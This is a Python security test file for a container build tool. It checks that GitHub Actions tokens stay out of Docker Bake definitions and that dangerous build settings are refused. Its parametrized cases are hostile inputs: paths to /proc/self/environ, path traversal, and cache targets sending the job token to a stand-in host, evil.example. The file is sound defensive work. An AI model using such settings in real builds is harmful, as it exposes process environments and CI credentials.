"""Builds that try to read this machine's processes, or the token of GitHub's cache."""

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from onegig.engine.bake import absent_images, build_images
from onegig.engine.build_plan import refuse_secret_sources
from onegig.engine.owned import Run
from onegig.errors import ConfigError
from onegig.model.stack import BuildInputs, Stack
from stacks import plain_service

pytestmark = pytest.mark.security

# a stand-in for docker: keeps its variables under the name of what it was asked, and answers
DOCKER = """\
#!/bin/sh
env >"{folder}/$2.variables"
case "$*" in
*"buildx inspect"*) echo "Driver: docker-container"; echo "BuildKit version: v0.26.2" ;;
esac
"""
TOKEN = "eyJ-the-token-of-the-cache"
JOB = {
    "ACTIONS_RUNTIME_TOKEN": TOKEN,
    "ACTIONS_RESULTS_URL": "https://results.example/",
    "GITHUB_TOKEN": "ghs_the-token-of-the-job",
    "GITHUB_ACTIONS": "true",
}


Build = Callable[..., dict[str, str]]


@pytest.fixture
def build(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Build:
    """Build a service in a job; the definition's text, and docker's variables by command."""
    docker = tmp_path / "tools" / "docker"
    docker.parent.mkdir()
    docker.write_text(DOCKER.format(folder=tmp_path))
    docker.chmod(0o755)
    monkeypatch.setenv("PATH", f"{docker.parent}:{os.environ['PATH']}")
    for name, value in JOB.items():
        monkeypatch.setenv(name, value)

    def run(build: dict[str, Any], inputs: BuildInputs, **config: Any) -> dict[str, str]:
        project = stack(tmp_path, build, **config)
        absent_images(project)
        run_ = Run(name="onegig-test", owner="test", directory=tmp_path)
        build_images(project, run_, say=lambda _: None, inputs=inputs)
        outputs = {path.stem: path.read_text() for path in tmp_path.glob("*.variables")}
        return {**outputs, "definition": (tmp_path / "bake.json").read_text()}

    return run


def stack(folder: Path, build: dict[str, Any], **config: Any) -> Stack:
    services = {"web": {"build": {"context": str(folder), **build}}, "db": {"image": "db"}}
    return Stack(
        name="shop",
        directory=str(folder),
        files=(),
        services=(plain_service("web", "shop/web", builds=True), plain_service("db", "db")),
        config_json=json.dumps({"services": services, **config}),
    )


def test_only_the_build_itself_gets_the_token(build: Build) -> None:
    outputs = build({}, BuildInputs())
    assert f"ACTIONS_RUNTIME_TOKEN={TOKEN}" in outputs["bake"].splitlines()
    assert TOKEN not in outputs["inspect"] + outputs["definition"]
    assert not any("GITHUB_TOKEN" in text for text in outputs.values())


@pytest.mark.parametrize("name", ["ACTIONS_RUNTIME_TOKEN", "GITHUB_TOKEN", "PATH"])
def test_no_secret_of_a_build_names_a_variable_of_bake(name: str, build: Build) -> None:
    sources = {"s": {"environment": name}, "t": {"environment": "OWN"}}
    secrets = [{"source": "s"}, {"source": "t"}]
    outputs = build({"secrets": secrets}, BuildInputs(secrets={"OWN": "mine"}), secrets=sources)
    secret = json.loads(outputs["definition"])["target"]["web"]["secret"]
    assert f"env={name}" not in ",".join(secret).split(",")
    assert "id=t,env=ONEGIG_SECRET_OWN" in secret
    assert "ONEGIG_SECRET_OWN=mine" in outputs["bake"].splitlines()


@pytest.mark.parametrize("text", ["${ACTIONS_RUNTIME_TOKEN}", "%{if true}x%{endif}"])
@pytest.mark.parametrize("place", ["args", "labels", "dockerfile_inline", "target"])
def test_bake_fills_in_no_variable(place: str, text: str, build: Build) -> None:
    value = {"A": text} if place in ("args", "labels") else text
    outputs = build({place: value}, BuildInputs())
    assert text not in outputs["definition"].replace(f"{text[0]}{text}", "")


@pytest.mark.parametrize(
    "build",
    [
        {"secrets": [{"source": "environ"}]},
        {"secrets": [{"source": "link"}]},
        {"context": "/proc/self"},
        {"context": "/"},
        {"context": "/proc/1/root/"},
        {"dockerfile": "/proc/self/environ"},
        {"dockerfile": "../../../../../../../../../../proc/self/environ"},
        {"dockerfile": "link"},
        {"additional_contexts": {"x": "/proc"}},
        {"additional_contexts": {"x": "/dev/fd"}},
        {"cache_from": ["type=gha,url_v2=https://evil.example/"]},
        {"cache_to": ["mode=max,TYPE=gha,URL=https://evil.example/"]},
        {"cache_to": ['"type=gha","url=https://evil.example/"']},
    ],
    ids=str,
)
def test_a_build_that_reads_processes_or_sends_the_token_is_refused(
    build: dict[str, Any], tmp_path: Path
) -> None:
    (tmp_path / "link").symlink_to("/proc/self/environ")
    sources = {"environ": {"file": "/proc/self/environ"}, "link": {"file": f"{tmp_path}/link"}}
    run_ = Run(name="onegig-test", owner="test", directory=tmp_path)
    project = stack(tmp_path, build, secrets=sources)
    with pytest.raises(ConfigError, match=r"the build of web must not|the cache of web has"):
        build_images(project, run_, say=lambda _: None)
    assert not (tmp_path / "bake.json").exists()


def test_what_builds_usually_read_is_fine(tmp_path: Path) -> None:
    target = {
        "context": str(tmp_path),
        "dockerfile": "docker/Dockerfile",
        "contexts": {"a": "docker-image://x", "b": "https://example.org/x.git", "c": "target:y"},
        "secret": ["id=a,src=/home/me/.netrc", "id=b,env=B"],
        "cache-from": ["type=gha,scope=x", "example.org/cache", "type=registry,ref=x"],
    }
    refuse_secret_sources("web", target)
    refuse_secret_sources("web", {"context": "https://example.org/x.git", "dockerfile": "x"})
